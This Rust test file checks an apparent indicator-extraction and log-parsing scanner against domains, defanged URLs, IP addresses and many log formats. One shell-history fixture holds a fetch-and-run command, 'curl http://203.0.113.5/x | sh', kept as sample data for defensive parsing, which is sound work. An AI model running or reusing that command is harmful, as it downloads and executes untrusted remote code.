//! Values as texts mean them, and nothing that is not there: names in all scripts, URLs in all
//! forms, log lines of all kinds. What is expected comes from the standards and from the programs'
//! documentation.

#![allow(clippy::unwrap_used, reason = "a failed test says where")]

mod common;

use common::{Rows, all, whole};
use serde_json::{Value, json};

/// Bytes that are no text, around a piece.
fn framed(piece: &[u8]) -> Vec<u8> {
    let mut out = vec![0x81, 0];
    out.extend_from_slice(piece);
    out.extend_from_slice(&[0, 0, 0x81]);
    out.resize(4096, 0x81);
    out
}

fn scan(text: &str) -> Rows {
    whole(&all(), &framed(text.as_bytes()))
}

fn scan_wide(text: &str) -> Rows {
    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    whole(&all(), &framed(&wide))
}

fn values(rows: &Rows, kind: &str) -> Vec<String> {
    let of = rows.of("finding").filter(|f| f["kind"] == kind);
    of.map(|f| f["value"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn names_begin_and_end_where_the_text_does() {
    for (text, want) in [
        (
            "siehe bücher.example.com heute",
            &["bücher.example.com"][..],
        ),
        ("exämple.org", &["exämple.org"]),
        ("пример.рф", &["пример.рф"]),
        ("münchen.example.COM", &[]),
        ("example.comé", &[]),
        ("“cdn.bad-host.net”", &["cdn.bad-host.net"]),
        ("XN--BCHER-KVA.EXAMPLE.NET", &["XN--BCHER-KVA.EXAMPLE.NET"]),
        ("请看evil-host.com。", &["请看evil-host.com"]),
        ("evil-host.com을", &["evil-host.com"]),
        ("cdn[.]bad-host[.]net", &["cdn[.]bad-host[.]net"]),
        ("cdn(.)bad-host.net", &["cdn(.)bad-host.net"]),
        ("cdn[dot]bad-host.net", &["cdn[dot]bad-host.net"]),
        ("https\u{3a}//x", &[]),
    ] {
        assert_eq!(values(&scan(text), "domain"), want, "{text}");
    }
    let wide = scan_wide("bücher.example.com");
    assert_eq!(values(&wide, "domain"), ["bücher.example.com"]);
    let row = wide.of("finding").next().unwrap();
    assert_eq!(row["fields"]["ascii"], "xn--bcher-kva.example.com");
}

#[test]
fn addresses_of_people_in_all_scripts() {
    for (text, want) in [
        ("jörg@bücher.example.com", "jörg@bücher.example.com"),
        ("用户@例子.中国", "用户@例子.中国"),
        ("USER@EXAMPLE.COM", "USER@EXAMPLE.COM"),
        ("user[@]bad-host[.]net", "user[@]bad-host[.]net"),
        ("user[at]bad-host.net", "user[at]bad-host.net"),
    ] {
        assert_eq!(values(&scan(text), "email"), [want]);
    }
    assert_eq!(values(&scan("a@b.nosuchtop"), "email"), [""; 0]);
    let rows = scan("jörg@bücher.example.com");
    let row = rows.of("finding").find(|f| f["kind"] == "email").unwrap();
    assert_eq!(row["fields"]["ascii"], "jörg@xn--bcher-kva.example.com");
    let rows = scan("user[at]cdn[dot]bad-host.net");
    let row = rows.of("finding").find(|f| f["kind"] == "email").unwrap();
    assert_eq!(row["fields"]["refanged"], "user@cdn.bad-host.net");
}

/// A text, the URL in it (none: nothing to find).
const URLS: &[(&str, &str)] = &[
    (
        "&quot;http://a.bad-host.net/r.html&quot; l",
        "http://a.bad-host.net/r.html",
    ),
    (
        "&quot;http://a.bad-host.net&quot; r",
        "http://a.bad-host.net",
    ),
    (
        "href=http://a.bad-host.net/x&gt;y",
        "http://a.bad-host.net/x",
    ),
    (
        "http://a.bad-host.net/x?a=1&amp;b=2\"",
        "http://a.bad-host.net/x?a=1&amp;b=2",
    ),
    (
        "http://a.bad-host.net/x?a=1&amp;",
        "http://a.bad-host.net/x?a=1",
    ),
    (
        "&#39;http://a.bad-host.net/x&#39;",
        "http://a.bad-host.net/x",
    ),
    (
        "&amp;quot;http://a.bad-host.net/x&amp;quot;",
        "http://a.bad-host.net/x",
    ),
    (
        "http:&#x2F;&#x2F;a.bad-host.net&#x2F;x",
        "http://a.bad-host.net/x",
    ),
    (
        r#"{"u":"https:\/\/a.bad-host.net\/a\/b"}"#,
        "https://a.bad-host.net/a/b",
    ),
    (
        r#"{"u":"https:\\/\\/a.bad-host.net\\/a"}"#,
        "https://a.bad-host.net/a",
    ),
    (
        r#"{"u":"https:\u002F\u002Fa.bad-host.net\u002Fa"}"#,
        "https://a.bad-host.net/a",
    ),
    (
        r#""https://a.bad-host.net/?a=1\u0026b=2""#,
        "https://a.bad-host.net/?a=1&b=2",
    ),
    (
        r#""https://a.bad-host.net/caf\u00e9""#,
        "https://a.bad-host.net/café",
    ),
    (
        r#""see https://a.bad-host.net/a\nnext""#,
        "https://a.bad-host.net/a",
    ),
    (r#""https://a.bad-host.net\"""#, "https://a.bad-host.net"),
    (
        r"distributionUrl=https\://a.bad-host.net/g.zip",
        "https://a.bad-host.net/g.zip",
    ),
    ("http://a.bad-host.net&x", "http://a.bad-host.net"),
    ("http://a.bad-host.net;x", "http://a.bad-host.net"),
    ("http://a.bad-host.net=x", "http://a.bad-host.net"),
    ("http://a.bad-host.net*x", "http://a.bad-host.net"),
    ("(http://a.bad-host.net)x", "http://a.bad-host.net"),
    ("[http://a.bad-host.net]x", "http://a.bad-host.net"),
    ("http://a.bad-host.net.", "http://a.bad-host.net"),
    ("http://a.bad-host.net's", "http://a.bad-host.net"),
    ("http://a.bad-host.net./x", "http://a.bad-host.net./x"),
    ("http://a.bad-host.net:/x", "http://a.bad-host.net:/x"),
    ("http://a.bad-host.net:8080;x", "http://a.bad-host.net:8080"),
    ("http://a.bad-host.net:99999/x", ""),
    ("http://user:secret", ""),
    ("http://%s/x", ""),
    ("http://host${x}.net/x", ""),
    ("hxxp://bad[.]host[.]net/x", "hxxp://bad[.]host[.]net/x"),
    (
        "hxxps[:]//bad[.]host.net[/]x",
        "hxxps[:]//bad[.]host.net[/]x",
    ),
    ("hxxp[://]bad.host.net/w", "hxxp[://]bad.host.net/w"),
    ("http://bad(.)host.net/z", "http://bad(.)host.net/z"),
    (
        "http://bad[dot]host[dot]net/z",
        "http://bad[dot]host[dot]net/z",
    ),
    (
        "http://bücher.bad-host.net/x",
        "http://bücher.bad-host.net/x",
    ),
    ("http://пример.рф/путь", "http://пример.рф/путь"),
    ("http://例子.中国/路径。", "http://例子.中国/路径"),
    ("http://bad-host.net查看", "http://bad-host.net"),
    (
        "http://a.bad-host.net/café/x.exe",
        "http://a.bad-host.net/café/x.exe",
    ),
    ("«http://a.bad-host.net/x»", "http://a.bad-host.net/x"),
    (
        "http://[fe80::1%25eth0]:8080/x",
        "http://[fe80::1%25eth0]:8080/x",
    ),
    ("http://[::ffff:192.0.2.7]/x", "http://[::ffff:192.0.2.7]/x"),
    ("http://[2001:db8::1]", "http://[2001:db8::1]"),
    ("http://[::1:x]/", ""),
    (
        "ftp://ann:p%40ss@a.bad-host.net:21/x",
        "ftp://ann:p%40ss@a.bad-host.net:21/x",
    ),
    ("http://a.bad-host.net/it's", "http://a.bad-host.net/it's"),
    ("'http://a.bad-host.net/it's", "http://a.bad-host.net/it"),
    (
        "http://a.bad-host.net/{id}/x",
        "http://a.bad-host.net/{id}/x",
    ),
    ("{http://a.bad-host.net/x}y", "http://a.bad-host.net/x"),
    ("|http://a.bad-host.net/x|200|", "http://a.bad-host.net/x"),
    (
        "\"http://a.bad-host.net/?f=A|B\"",
        "http://a.bad-host.net/?f=A|B",
    ),
    (r"http:\\a.bad-host.net\x", ""),
];

#[test]
fn urls_in_all_forms() {
    for (text, want) in URLS {
        let want: Vec<&str> = Some(*want).filter(|w| !w.is_empty()).into_iter().collect();
        assert_eq!(values(&scan(text), "url"), want, "{text}");
        assert_eq!(values(&scan_wide(text), "url"), want, "{text} in UTF-16");
    }
}

#[test]
fn what_is_beside_a_url() {
    let field = |text: &str, name: &str| {
        let rows = scan(text);
        let row = rows.of("finding").find(|f| f["kind"] == "url").unwrap();
        row["fields"][name].clone()
    };
    let defanged = "hxxps[:]//bad[.]host[.]net[/]x";
    assert_eq!(field(defanged, "refanged"), "https://bad.host.net/x");
    assert_eq!(field(defanged, "host"), "bad.host.net");
    let json = r#""https:\/\/a.bad-host.net\/?a=1\u0026b""#;
    assert_eq!(field(json, "raw"), r"https:\/\/a.bad-host.net\/?a=1\u0026b");
    let html = "http://a.bad-host.net/?a=1&amp;b=2";
    assert_eq!(field(html, "unescaped"), "http://a.bad-host.net/?a=1&b=2");
    assert_eq!(
        field("http://пример.рф/", "host_ascii"),
        "xn--e1afmkfd.xn--p1ai"
    );
    assert_eq!(
        field("http://192.0.2.7/", "reserved"),
        "documentation (RFC 5737)"
    );
    assert_eq!(field("http://10.1.2.3/", "range"), "private (RFC 1918)");
    assert_eq!(
        field("http://www.example.com/", "reserved"),
        "documentation (RFC 2606)"
    );
    assert_eq!(field("http://a.bad-host.net/", "reserved"), Value::Null);
}

#[test]
fn addresses_networks_and_what_looks_like_them() {
    let kinds = |text: &str| {
        let rows = scan(text);
        let of = rows.of("finding").map(|f| {
            let plain = |n: &str| f["fields"][n].as_str().map(str::to_owned);
            (
                f["kind"].as_str().unwrap().to_owned(),
                f["value"].as_str().unwrap().to_owned(),
                plain("prefix").or(plain("doubt")).or(plain("refanged")),
            )
        });
        of.collect::<Vec<_>>()
    };
    let one = |kind: &str, value: &str, more: &str| {
        let more = Some(more.to_owned()).filter(|m| !m.is_empty());
        vec![(kind.to_owned(), value.to_owned(), more)]
    };
    assert_eq!(
        kinds(" 10.20.0.0/16 "),
        one("ipv4_net", "10.20.0.0/16", "16")
    );
    assert_eq!(kinds(" 10.20.0.5/16 "), one("ipv4", "10.20.0.5", "16"));
    assert_eq!(kinds(" 10.20.0.5 "), one("ipv4", "10.20.0.5", ""));
    assert_eq!(
        kinds("192[.]168[.]7[.]9"),
        one("ipv4", "192[.]168[.]7[.]9", "192.168.7.9")
    );
    assert_eq!(
        kinds(" 1.3.101.112 "),
        one("ipv4", "1.3.101.112", "may be an object identifier")
    );
    assert_eq!(
        kinds(" 2a00:1450::/32 "),
        one("ipv6_net", "2a00:1450::/32", "32")
    );
    assert_eq!(kinds(" 2a00:1450::1 "), one("ipv6", "2a00:1450::1", ""));
    assert_eq!(kinds(" ffff:ffff:ffff:ffff:: "), vec![]);
}

/// A line, and values that its event must have.
fn lines() -> Vec<(&'static str, Value)> {
    let utc = |s: i64| json!(s * 1_000_000);
    vec![
        (
            "Feb 6 15:16:31 web01 sshd[22]: x y",
            json!({"kind": "sshd", "host": "web01", "pid": 22, "raw_time": "Feb 6 15:16:31"}),
        ),
        (
            "<38>Feb 6 2024 15:16:31 web01 cron[2]: x",
            json!({"kind": "syslog", "inferred_time": 1_707_232_591_000_000i64, "program": "cron"}),
        ),
        (
            "2024 Feb  6 15:16:31 web01 cron[2]: x",
            json!({"inferred_time": 1_707_232_591_000_000i64, "host": "web01"}),
        ),
        (
            "Tue Feb  6 15:16:31 2024 web01 cron[2]: x",
            json!({"inferred_time": 1_707_232_591_000_000i64, "host": "web01"}),
        ),
        (
            "Feb  6 15:16:31 UTC 2024 web01 cron[2]: x",
            json!({"time": 1_707_232_591_000_000i64, "host": "web01"}),
        ),
        (
            "Feb  6 15:16:39 kernel: [  997.3] sda2: rw=0",
            json!({"host": null, "program": "kernel", "message": "[  997.3] sda2: rw=0"}),
        ),
        (
            "Feb  6 15:16:39 web01 INFO cron[2]: x",
            json!({"host": "web01", "program": "cron", "fields": {"level": "INFO"}}),
        ),
        (
            "Feb  6 15:16:39 web01 daemon.info cron[2]: x",
            json!({"host": "web01", "program": "cron", "fields": {"level": "info", "facility_name": "daemon"}}),
        ),
        (
            "Feb  6 15:16:39 <auth.notice> gate su[2]: x",
            json!({"host": "gate", "program": "su", "fields": {"level": "notice"}}),
        ),
        (
            "\u{feff}Feb  6 15:16:39 web01 cron[2]: x",
            json!({"host": "web01", "program": "cron"}),
        ),
        (
            "*Mar  1 18:46:11.123 UTC: %SYS-5-CONFIG_I: Configured",
            json!({"program": "%SYS-5-CONFIG_I"}),
        ),
        (
            "2024-02-06t15:16:31z web01 cron[2]: x",
            json!({"kind": "syslog", "time": utc(1_707_232_591), "host": "web01"}),
        ),
        (
            "2024-02-06T15:16:31Z cron[2]: x",
            json!({"kind": "syslog", "host": null, "program": "cron", "pid": 2}),
        ),
        (
            "<34>2024-02-06T15:16:31Z web01 su[2]: x",
            json!({"kind": "syslog", "program": "su", "fields": {"facility": 4}}),
        ),
        (
            "2024-02-06 15:16:31 CEST up",
            json!({"kind": "iso", "time": utc(1_707_232_591 - 7200), "message": "up"}),
        ),
        (
            "2024-02-06 15:16:31 EST up",
            json!({"time": null, "inferred_time": utc(1_707_232_591 + 18000),
            "inferred_from": "zone: EST is -05:00 (North America) or +10:00 (Australia); the first is assumed"}),
        ),
        (
            "2024-02-06 15:16:31 GMT+0200 up",
            json!({"time": utc(1_707_232_591 - 7200)}),
        ),
        (
            "2024-02-06 15:16:31 INFO up",
            json!({"time": null, "inferred_from": "zone: assumed UTC", "message": "INFO up"}),
        ),
        (
            "I0206 15:16:31.123456    1234 server.go:12] hello there",
            json!({"kind": "klog", "pid": 1234, "message": "hello there",
            "inferred_time": 1_707_232_591_123_456i64, "fields": {"level": "INFO", "file": "server.go", "line": 12}}),
        ),
        (
            "level=warn ts=2024-02-06T15:16:31Z caller=a.go:1 msg=\"it \\\"broke\\\"\" err=eof",
            json!({"kind": "logfmt",
            "time": utc(1_707_232_591), "message": "it \"broke\"", "fields": {"level": "warn", "error": "eof", "caller": "a.go:1"}}),
        ),
        (
            "time=\"2024-02-06T15:16:31Z\" level=info msg=up",
            json!({"kind": "logfmt", "message": "up"}),
        ),
        (
            "2024-02-06 15:16:31.5 UTC [812] bob@shop ERROR:  no such table",
            json!({"kind": "postgresql", "pid": 812,
            "time": 1_707_232_591_500_000i64, "message": "no such table", "fields": {"user": "bob", "database": "shop", "level": "ERROR"}}),
        ),
        (
            "2024-02-06 15:16:31 CET [812-1] LOG:  ready",
            json!({"kind": "postgresql", "pid": 812, "message": "ready"}),
        ),
        (
            "2024-02-06T15:16:31.123456789Z stderr P cut of",
            json!({"kind": "cri", "message": "cut of", "fields": {"stream": "stderr", "tag": "P"}}),
        ),
        (
            "type=EXECVE msg=audit(1707232591.123:7): argc=2 a0=\"sh\" a1=2D63",
            json!({"kind": "auditd",
            "time": 1_707_232_591_123_000i64, "fields": {"type": "EXECVE", "serial": 7, "command": "sh -c"}}),
        ),
        (
            "node=web01 type=USER_LOGIN msg=audit(1707232591.000:8): pid=9 uid=0 msg='op=login acct=\"ann\" addr=203.0.113.5 res=success'\u{1d}UID=\"root\"",
            json!({"host": "web01", "pid": 9, "fields": {"user": "ann", "src_ip": "203.0.113.5", "translated": "UID=\"root\""}}),
        ),
        (
            "#1707232591\ncurl http://203.0.113.5/x | sh",
            json!({"kind": "shell_history", "time": utc(1_707_232_591),
            "time_kind": "shell command", "message": "curl http://203.0.113.5/x | sh"}),
        ),
        (
            ": 1707232591:3;ls -l",
            json!({"kind": "shell_history", "message": "ls -l", "fields": {"shell": "zsh", "elapsed": 3}}),
        ),
        (
            "- cmd: git push\n  when: 1707232591\n",
            json!({"kind": "shell_history", "message": "git push"}),
        ),
        (
            "__CURSOR=s=1\n__REALTIME_TIMESTAMP=1707232591123456\nPRIORITY=6\n_HOSTNAME=web01\n_PID=7\nSYSLOG_IDENTIFIER=su\nMESSAGE=up\n",
            json!({"kind": "journal", "offset": 2, "time": 1_707_232_591_123_456i64, "host": "web01", "program": "su", "pid": 7, "message": "up"}),
        ),
        (
            r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a","stage":"ResponseComplete","requestURI":"/api/v1/secrets","verb":"list","user":{"username":"eve"},"sourceIPs":["203.0.113.5"],"responseStatus":{"code":200},"requestReceivedTimestamp":"2024-02-06T15:16:31.000000Z"}"#,
            json!({"kind": "kubernetes_audit", "message": "list /api/v1/secrets", "time": utc(1_707_232_591),
                "fields": {"user": "eve", "src_ip": "203.0.113.5", "status": "200", "verb": "list"}}),
        ),
        (
            r#"{"time_local":"06/Feb/2024:15:16:31 +0000","remote_addr":"203.0.113.5","request":"GET / HTTP/1.1"}"#,
            json!({"kind": "json", "time": utc(1_707_232_591), "message": "GET / HTTP/1.1"}),
        ),
        (
            r#"{"ts":1.7072325911235e9,"msg":"e"}"#,
            json!({"time": 1_707_232_591_123_500i64}),
        ),
        (
            "{\t\"time\":\"2024-02-06T15:16:31Z\",\"msg\":\"tab\"}",
            json!({"message": "tab"}),
        ),
        (
            r#"{"time":"2024-02-06T15:16:31Z","msg":"comma"},"#,
            json!({"message": "comma", "len": 45}),
        ),
        (
            r#"{"a":{"b":[{"time":"2024-02-06T15:16:31Z","msg":"deep"}]}}"#,
            json!({"message": "deep", "offset": 2 + 11}),
        ),
        (
            r#"{"@timestamp":"2024-02-06T15:16:31Z","log":{"level":"error"},"host":{"name":"web01"},"message":"ecs"}"#,
            json!({"host": "web01", "message": "ecs", "fields": {"level": "error"}}),
        ),
        (
            r#"{"t":{"$date":"2024-02-06T15:16:31.000Z"},"s":"I","msg":"mongo"}"#,
            json!({"time": utc(1_707_232_591), "message": "mongo"}),
        ),
    ]
}

fn matches(want: &Value, row: &Value) -> bool {
    want.as_object().unwrap().iter().all(|(k, w)| match w {
        Value::Object(o) => o.iter().all(|(f, w)| row[k][f] == *w),
        w => row[k] == *w,
    })
}

#[test]
fn log_lines_of_all_kinds() {
    for (line, want) in lines() {
        let rows = scan(line);
        let events: Vec<_> = rows.of("event").collect();
        assert_eq!(events.len(), 1, "{line}: {events:?}");
        assert!(matches(&want, events[0]), "{line}\n{want}\n{}", events[0]);
    }
}

#[test]
fn a_time_alone_is_no_event() {
    for text in [
        "2024-02-06 15:16:31",
        "2024-02-06T15:16:31Z",
        "[2024-02-06 15:16:31]",
        "2024-02-06 15:16:31,",
    ] {
        assert_eq!(scan(text).of("event").count(), 0, "{text}");
    }
}

/// What a web server's line has before the time and behind the agent.
#[test]
fn every_part_of_a_web_log_line_is_kept() {
    let time = "[06/Feb/2024:15:16:31 +0000]";
    let rest = "\"GET /x HTTP/1.1\" 200 5 \"-\" \"agent\"";
    let cases = [
        (
            format!("203.0.113.5 - - {time} {rest}"),
            json!({"client": "203.0.113.5"}),
        ),
        (
            format!("203.0.113.5 10.0.0.1 - - {time} {rest}"),
            json!({"client": "10.0.0.1", "forwarded_for": "203.0.113.5"}),
        ),
        (
            format!("203.0.113.5, 10.0.0.2 10.0.0.1 - bob {time} {rest}"),
            json!({"client": "10.0.0.1", "forwarded_for": "203.0.113.5, 10.0.0.2", "user": "bob"}),
        ),
        (
            format!("203.0.113.5, 10.0.0.2 - - {time} {rest}"),
            json!({"client": "203.0.113.5", "forwarded_for": "203.0.113.5, 10.0.0.2"}),
        ),
        (
            format!("\"203.0.113.5\" 10.0.0.1 - - {time} {rest}"),
            json!({"client": "10.0.0.1", "forwarded_for": "203.0.113.5"}),
        ),
        (
            format!("10.0.0.1 - - {time} {rest} \"203.0.113.5, 10.0.0.9\" 0.012"),
            json!({"client": "10.0.0.1", "forwarded_for": "203.0.113.5, 10.0.0.9", "extra": "\"203.0.113.5, 10.0.0.9\" 0.012"}),
        ),
        (
            format!("fe80::1%eth0 - - {time} {rest}"),
            json!({"client": "fe80::1%eth0"}),
        ),
        (
            format!("203.0.113.5\t-\tbob\t{time}\t\"GET /x HTTP/1.1\"\t200\t5"),
            json!({"client": "203.0.113.5", "user": "bob", "status": 200}),
        ),
        (
            format!("203.0.113.5 id John Doe {time} {rest}"),
            json!({"ident": "id", "user": "John Doe"}),
        ),
        (
            format!("203.0.113.5 - - {time} \"-\" - -"),
            json!({"client": "203.0.113.5"}),
        ),
        (
            format!("203.0.113.5 - - {time} \"GET /x HTTP/1.1\" - 5"),
            json!({"bytes": 5, "protocol": "HTTP/1.1"}),
        ),
    ];
    for (line, want) in cases {
        let rows = scan(&line);
        let events: Vec<_> = rows.of("event").collect();
        assert_eq!(events.len(), 1, "{line}");
        assert!(
            matches(
                &json!({"kind": "access", "host": null, "fields": want.clone()}),
                events[0]
            ),
            "{line}\n{want}\n{}",
            events[0]
        );
    }
    let line = format!("www.bad-host.net:443 203.0.113.5 - - {time} {rest}");
    let rows = scan(&line);
    let row = rows.of("event").next().unwrap();
    assert_eq!(
        (&row["host"], &row["fields"]["client"]),
        (&json!("www.bad-host.net:443"), &json!("203.0.113.5"))
    );
}
